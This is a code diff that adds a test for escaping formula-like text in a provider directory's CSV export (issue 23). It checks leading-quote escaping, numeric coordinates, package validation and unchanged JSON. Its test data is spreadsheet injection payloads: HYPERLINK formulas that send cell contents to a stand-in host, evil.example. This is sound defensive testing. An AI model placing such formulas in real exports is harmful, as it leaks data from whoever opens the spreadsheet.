@@ -15,7 +15,7 @@ from frictionless import validate
 from openapi_spec_validator import validate as validate_openapi
 from sqlalchemy import event, select, update
 
-from directory import licensing
+from directory import csvfile, licensing
 from directory.admin import operations as admin
 from directory.db import db
 from directory.hsds import export, records, views
@@ -651,3 +651,75 @@ def test_a_specialty_decision_and_a_lapse_change_the_record(app, client):
     assert hsds_check.errors("compiled/service", record) == []
     assert datetime.fromisoformat(record["last_modified"]) >= before.replace(microsecond=0)
     assert _terms(record, "specialty") == {"specialty-prenatal": "Klose Training"}
+
+
+# Spreadsheets: text that begins like a formula (issue 23). Its `app` empties the database that
+# `world` reads on PostgreSQL, so it comes after every test of `world`.
+
+
+def test_text_beginning_like_a_formula_is_escaped_and_the_package_still_validates(app, tmp_path):
+    """Issue 23: therapist and practice text that begins with =, +, -, @, a tab, a carriage
+    return or a line feed reaches the CSV files with a leading single quote, quoted; latitude and
+    longitude stay bare numbers (a negative longitude too), ordinary text is as it was, the
+    package still validates, and the JSON files keep the text itself."""
+    starts = [c for c in csvfile.FORMULA_STARTS if c != "\0"]  # PostgreSQL stores no NUL
+    formulas = [f'{c}HYPERLINK("https://evil.example/?"&A{i},"Book")' for i, c in enumerate(starts)]
+    spa = Tenant(slug="formula-spa", name=formulas[0], kind="spa", description=formulas[3])
+    for i, text in enumerate(formulas):
+        p = add_practitioner(f"therapist-{i}", tenant=spa, licenses=[("NJ", "verified", None)],
+                             offices=["07030"], name=text, headline=text if i % 2 else "",
+                             bio=text, phone="+1 201 555 0100")  # fmt: skip
+        p.offices[0].street = p.offices[0].city = text
+        p.specialties.append(Specialty(kind="clt", issuer=text, number="K-1", status="verified",
+                                       expires_on=date.today() + timedelta(days=300)))  # fmt: skip
+    add_practitioner("ora-ordinary", tenant=spa, licenses=[("NJ", "verified", None)],
+                     offices=["07030"], headline="Medical massage for sciatica")  # fmt: skip
+    db.session.commit()
+    out = tmp_path / "export"
+    export.write(out)
+
+    report = validate(str(out / "csv" / "datapackage.json"))
+    assert report.valid, report.flatten(["type", "message"])[:5]
+    escaped = {"'" + text for text in formulas}
+    assert {r["name"] for r in _rows(out, "contact")} == escaped | {"Ora Ordinary"}
+    described = {"'" + (f"{t}\n\n{t}" if i % 2 else t) for i, t in enumerate(formulas)}
+    assert {r["description"] for r in _rows(out, "service")} == described | {
+        "Medical massage for sciatica"
+    }
+    addresses = _rows(out, "address")
+    assert {r["address_1"] for r in addresses} == escaped | {"1 Main St"}
+    assert {r["city"] for r in addresses} == escaped | {"Hoboken"}
+    assert {(r["state_province"], r["postal_code"], r["country"]) for r in addresses} == {
+        ("NJ", "07030", "US")
+    }
+    assert {r["number"] for r in _rows(out, "phone")} == {"'+1 201 555 0100"}
+    assert escaped <= {r["value"] for r in _rows(out, "attribute")}
+    [org] = _rows(out, "organization")
+    assert (org["name"], org["description"]) == ("'" + formulas[0], "'" + formulas[3])
+    assert {r["name"] for r in _rows(out, "location")} == {
+        f"'{formulas[0]}, {street}, {city}"
+        for street, city in [*zip(formulas, formulas, strict=True), ("1 Main St", "Hoboken")]
+    }
+
+    # Every text cell is quoted and no number is: read back keeping quoted cells as text, the
+    # coordinates are numbers and everything else text.
+    path, names = export.columns()["location"]
+    with (out / "csv" / path).open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle, quoting=csv.QUOTE_NONNUMERIC))
+    assert rows[0] == names and len(rows) == len(formulas) + 2
+    for row in rows[1:]:
+        cells = dict(zip(names, row, strict=True))
+        assert isinstance(cells.pop("latitude"), float)
+        assert cells.pop("longitude") < 0
+        assert all(isinstance(cell, str) for cell in cells.values())
+
+    # No cell of any text column begins like a formula; the JSON holds the text itself.
+    for resource in export.columns():
+        for row in _rows(out, resource):
+            for column, cell in row.items():
+                if column not in ("latitude", "longitude"):
+                    assert not cell.startswith(csvfile.FORMULA_STARTS), (resource, column, cell)
+    assert {c["name"] for s in _read(out, "services") for c in s["contacts"]} == {
+        *formulas,
+        "Ora Ordinary",
+    }
